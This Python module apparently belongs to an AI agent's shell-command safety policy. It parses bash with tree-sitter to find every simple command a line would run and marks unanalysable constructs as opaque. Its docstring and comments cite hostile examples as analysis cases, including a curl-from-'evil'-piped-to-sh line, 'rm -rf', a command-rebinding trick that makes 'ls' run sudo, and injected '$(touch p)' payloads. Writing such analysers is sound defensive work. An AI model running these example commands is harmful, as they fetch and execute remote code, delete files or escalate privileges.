"""A shell command line → the simple commands it would run, via tree-sitter-bash.

The policy judges simple commands, never raw text: `git status && rm -rf x` is two commands, and
`echo $(curl evil | sh)` is three. Everything bash would run is found: lists, pipes, subshells,
`{ }`, control structures, function bodies, command and process substitution, `bash -c` scripts
and the real command behind wrappers such as `env`, `sudo`, `timeout` or `xargs` (see
`vibe.policy.shell_wrappers`). Redirections into files are recorded as writes.

Whatever cannot be known from the text alone (a syntax error, `eval`, a command name held in a
variable, a shell reading commands from its input) becomes a part marked `opaque`, which the
policy never allows on its own. So does every place where bash evaluates data as code
(`$((x))`, `${x@P}`, subscripts: see `vibe.policy.shell_eval`), a word holding shell code as
literal text (`'$(touch p)'`, which those places would run), and an assignment that changes what
later commands run (`PS4=...`, `HOME=...`; see `simple_command.assignment_risk`).

Variables set in front of a command (`HOME=x git status`) that are not display-only are carried
in the part's `environment`: a read-only rule no longer covers it.
"""

from __future__ import annotations

import re
from dataclasses import replace
from functools import cache
from typing import TYPE_CHECKING

from vibe.policy.shell_eval import code_from_data
from vibe.policy.shell_source import has_continuation, join_continued_lines
from vibe.policy.shell_wrappers import unwrap

if TYPE_CHECKING:
    from tree_sitter import Node, Parser
from vibe.policy.simple_command import (
    Glob,
    SimpleCommand,
    Word,
    assignment_risk,
    harmless_variable,
    holds_shell_code,
    is_file_target,
    sensitive_assignment,
)

# `bash -c "bash -c '...'"` nests; past this depth the text is not analysed further.
MAX_DEPTH = 6
# Redirection operators that write the destination (when it is a file, not an fd or /dev/null).
_WRITE_OPERATORS = frozenset({">", ">>", "&>", "&>>", ">|", ">&"})

_BRACE_EXPANSION = re.compile(r"\{[^{}]*(,|\.\.)[^{}]*\}")
_ESCAPE = re.compile(r"\\(.)", re.DOTALL)
# A pattern character bash expands (`*`, `?`, `[`) that no backslash escapes.
# Bash's tables of aliases and remembered command paths: `BASH_CMDS[ls]=/usr/bin/sudo` makes
# `ls` run sudo, whatever builtin writes them (declare, read, printf -v). Aliases only expand
# after `shopt -s expand_aliases`.
_COMMAND_REBINDING = re.compile(r"BASH_CMDS|BASH_ALIASES|expand_aliases")
_UNESCAPED_GLOB = re.compile(r"(?:^|[^\\])(?:\\\\)*[*?\[]")
_BACKTICK_ESCAPE = re.compile(r"\\([\\`$])")
_STRING_ESCAPE = re.compile(r"\\([\\\"$`\n])")


@cache
def _parser() -> Parser:
    # Loaded on the first command judged, not at start-up: a run that never calls bash skips it.
    import tree_sitter_bash
    from tree_sitter import Language, Parser

    return Parser(Language(tree_sitter_bash.language()))


def analyse_command(command: str, depth: int = 0) -> tuple[SimpleCommand, ...]:
    """Every simple command `command` would run, in source order."""
    if depth > MAX_DEPTH:
        reason = "shell scripts nested too deeply to analyse"
        return (SimpleCommand((), command, opaque=reason, elevated=True),)
    source = command.encode()
    tree = _parser().parse(source)
    if has_continuation(command):
        # Judge the words bash reads: `--o\\<newline>utput` is one word to bash.
        command = join_continued_lines(command, tree)
        source = command.encode()
        tree = _parser().parse(source)
    walker = _Walker(source, depth)
    walker.visit(tree.root_node, ())
    parts = walker.parts
    parts.extend(code_from_data(tree.root_node, walker.text))
    if tree.root_node.has_error:
        # What bash makes of it is unknown: it may run any program, sudo among them.
        reason = "the command has a syntax error bash may read differently"
        parts.append(SimpleCommand((), command.strip(), opaque=reason, elevated=True))
    rebinding = _COMMAND_REBINDING.search(command)
    if rebinding is not None:
        reason = f"{rebinding.group()} can make a command name run another program (sudo among them)"
        parts.append(SimpleCommand((), command.strip(), opaque=reason, elevated=True))
    return tuple(parts)


class _Walker:
    def __init__(self, source: bytes, depth: int) -> None:
        self._source = source
        self._depth = depth
        self.parts: list[SimpleCommand] = []

    def text(self, node: Node) -> str:
        return self._source[node.start_byte : node.end_byte].decode(errors="replace")

    _text = text

    # -- statements ---------------------------------------------------------------------------

    def visit(self, node: Node, writes: tuple[str, ...]) -> None:
        """Collect the commands under `node`; `writes` are redirections applying to them."""
        kind = node.type
        if kind == "command":
            self._command(node, writes, ())
        elif kind == "redirected_statement":
            self._redirected(node, writes)
        elif kind == "command_substitution" and self._text(node).startswith("`"):
            # Inside backticks bash unescapes \` \\ \$ first, so `\`cmd\`` nests another
            # substitution that tree-sitter reads as plain words: parse the unescaped text again.
            inner = _BACKTICK_ESCAPE.sub(r"\1", self._text(node)[1:-1])
            self.parts.extend(analyse_command(inner, self._depth + 1))
        elif kind in ("command_substitution", "process_substitution"):
            # Their output goes to the enclosing command, not to its redirections.
            for child in node.named_children:
                self.visit(child, ())
        elif kind == "variable_assignment":
            self._assignment(node, standalone=True)
        elif kind == "comment":
            return
        else:
            for child in node.named_children:
                if child.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                    targets, _extra = self._redirect_writes(child)
                    if targets:
                        self.parts.append(SimpleCommand((), self._text(child), writes=targets))
                    continue
                self.visit(child, writes)

    def _substitutions(self, node: Node) -> None:
        """Visit commands nested in a word (`$(...)`, backticks, `<(...)`, inside strings)."""
        if node.type in ("command_substitution", "process_substitution"):
            self.visit(node, ())
            return
        for child in node.named_children:
            self._substitutions(child)

    def _assignment(self, node: Node, standalone: bool) -> tuple[str, Word] | None:
        name_node = node.child_by_field_name("name")
        value_node = node.child_by_field_name("value")
        if value_node is not None:
            self._substitutions(value_node)
        if name_node is None:
            return None
        name = self._text(name_node)
        value = self.word(value_node) if value_node is not None else ""
        risk = assignment_risk(name, value) if standalone else None
        if risk is not None:
            self.parts.append(SimpleCommand((), self._text(node), opaque=risk))
        return name, value

    def _redirect_writes(self, node: Node) -> tuple[tuple[str, ...], list[Node]]:
        """Files a redirection writes, and any words wrongly attached to it (`echo > f hi`)."""
        self._substitutions(node)
        if node.type == "heredoc_redirect":
            writes: list[str] = []
            for child in node.named_children:
                if child.type == "file_redirect":
                    writes.extend(self._redirect_writes(child)[0])
                elif child.type not in ("heredoc_start", "heredoc_body", "heredoc_end"):
                    # `cat <<EOF | sh`: the rest of the pipeline hangs under the heredoc.
                    self.visit(child, ())
            return tuple(writes), []
        if node.type != "file_redirect":
            return (), []
        operator = next((c.type for c in node.children if not c.is_named), "")
        if node.child_by_field_name("descriptor") is not None and operator == ">&":
            operator = ">"
        destinations = node.children_by_field_name("destination")
        if not destinations or operator not in _WRITE_OPERATORS:
            return (), destinations[1:]
        target_node = destinations[0]
        target = self.word(target_node)
        if target_node.type in ("number", "process_substitution") or (
            target is not None and not is_file_target(target)
        ):
            return (), destinations[1:]
        return (target if target is not None else self._text(target_node),), destinations[1:]

    def _redirected(self, node: Node, inherited: tuple[str, ...]) -> None:
        writes = list(inherited)
        extra_words: list[Node] = []
        for redirect in node.children_by_field_name("redirect"):
            targets, extra = self._redirect_writes(redirect)
            writes.extend(targets)
            extra_words.extend(extra)
        body = node.child_by_field_name("body")
        if body is not None and body.type == "command":
            self._command(body, tuple(writes), tuple(extra_words))
        elif body is not None:
            if extra_words:
                self.parts.append(
                    SimpleCommand((), self._text(node), opaque="words after a redirection of a group")
                )
            self.visit(body, tuple(writes))
        elif extra_words:
            # `> f cmd args`: the command comes after its redirection.
            words = tuple(self.word(w) for w in extra_words)
            for w in extra_words:
                self._substitutions(w)
            self._emit(words, self._text(node), tuple(writes))
        elif len(writes) > len(inherited):
            self.parts.append(SimpleCommand((), self._text(node).strip(), writes=tuple(writes)))

    def _command(self, node: Node, writes: tuple[str, ...], extra: tuple[Node, ...]) -> None:
        all_writes = list(writes)
        words: list[Word] = []
        opaque: str | None = None
        environment: list[str] = []
        translated = False
        for child in node.children:
            if not child.is_named:
                # `cmd $"text"`: the `$` of a translated string hangs between the words.
                translated = child.type == "$"
                continue
            field = _field_of(node, child)
            if child.type == "variable_assignment":
                assigned = self._assignment(child, standalone=False)
                if assigned is None:
                    continue
                name, value = assigned
                if sensitive_assignment(name, value):
                    opaque = f"setting {name} changes what the command runs"
                elif value is not None and holds_shell_code(value):
                    opaque = f"the value given to {name} holds shell code that bash may evaluate"
                elif not harmless_variable(name, value):
                    environment.append(name)
            elif child.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                targets, more = self._redirect_writes(child)
                all_writes.extend(targets)
                extra += tuple(more)
            elif field in ("name", "argument"):
                target = child.named_children[0] if child.type == "command_name" else child
                self._substitutions(target)
                words.append(None if translated else self.word(target))
            translated = False
        for word_node in extra:
            self._substitutions(word_node)
            words.append(self.word(word_node))
        text = self._text(node)
        if opaque is not None:
            self.parts.append(SimpleCommand(tuple(words), text, tuple(all_writes), opaque=opaque))
            return
        self._emit(tuple(words), text, tuple(all_writes), tuple(environment))

    def _emit(
        self, words: tuple[Word, ...], text: str, writes: tuple[str, ...], environment: tuple[str, ...] = ()
    ) -> None:
        part = SimpleCommand(words, text, writes, environment=environment)

        def parse_script(script: str) -> tuple[SimpleCommand, ...]:
            return analyse_command(script, self._depth + 1)

        for found in unwrap(part, parse_script):
            # A `bash -c` script was parsed above; text left holding `$(` is data bash may
            # evaluate later (`x='a[$(touch p)]'`, `printf -v PS4 '$(...)'`).
            if found.opaque is None and any(w is not None and holds_shell_code(w) for w in found.words):
                found = replace(found, opaque="its words hold shell code (`$(`, `${` or a backtick) as text")
            self.parts.append(found)

    # -- words --------------------------------------------------------------------------------

    def word(self, node: Node) -> Word:
        kind = node.type
        if kind == "word":
            raw = self._text(node)
            if _BRACE_EXPANSION.search(raw):
                return None
            text = _ESCAPE.sub(r"\1", raw)
            # `[` alone is the test command, not a pattern.
            return Glob(text) if raw != "[" and _UNESCAPED_GLOB.search(raw) else text
        if kind == "number":
            return self._text(node)
        if kind == "raw_string":
            return self._text(node)[1:-1]
        if kind == "string":
            pieces: list[str] = []
            for child in node.named_children:
                if child.type != "string_content":
                    return None
                pieces.append(
                    _STRING_ESCAPE.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), self._text(child))
                )
            return "".join(pieces)
        if kind == "concatenation":
            unquoted = "".join(self._text(c) for c in node.named_children if c.type == "word")
            if _BRACE_EXPANSION.search(unquoted) or _translated(node):
                return None
            joined: list[str] = []
            for child in node.named_children:
                piece = self.word(child)
                if piece is None:
                    return None
                joined.append(piece)
            # tree-sitter splits `a[1]` into `a`, `[`, `1]`: the pattern shows in the joined text.
            glob = any(isinstance(c, Glob) for c in joined) or _UNESCAPED_GLOB.search(unquoted)
            return Glob("".join(joined)) if glob else "".join(joined)
        return None


def _translated(node: Node) -> bool:
    """`$"text"`: bash may replace the text by its translation (gettext), known at run time."""
    return any(child.type == "$" and not child.is_named for child in node.children)


def _field_of(parent: Node, child: Node) -> str | None:
    for index, candidate in enumerate(parent.children):
        if candidate.id == child.id:
            return parent.field_name_for_child(index)
    return None
